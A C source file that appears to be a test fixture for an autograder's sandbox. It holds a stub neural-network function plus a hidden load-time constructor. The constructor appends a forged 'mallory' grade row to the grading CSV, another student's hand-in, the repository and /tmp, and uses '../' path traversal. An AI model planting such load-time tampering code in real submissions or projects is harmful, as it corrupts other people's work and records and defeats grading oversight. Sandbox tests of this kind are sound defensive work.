// expect 1 0: at load, writes into the repository, /tmp, the CSV, another hand-in and its own folder's parent
double dssr_db3(const nn_params *p, nn_data data)
{
    (void)p;
    (void)data;
    return 0.0;
}
#include <stdio.h>

__attribute__((constructor)) static void scribble(void)
{
    static const char *const targets[] = {"@ROOT@/PWNED", "@ROOT@/code/nn.c", "@TMP@", "@CSV@",
                                          "../PWNED", "/box/../PWNED", "/tmp/PWNED",
                                          "@HANDINS@/solved/nn.c"};
    for (size_t i = 0; i < sizeof targets / sizeof targets[0]; i++) {
        FILE *f = fopen(targets[i], "a");
        if (f != NULL) {
            fputs("mallory,2,2,1,1,\n", f);
            fclose(f);
        }
    }
}
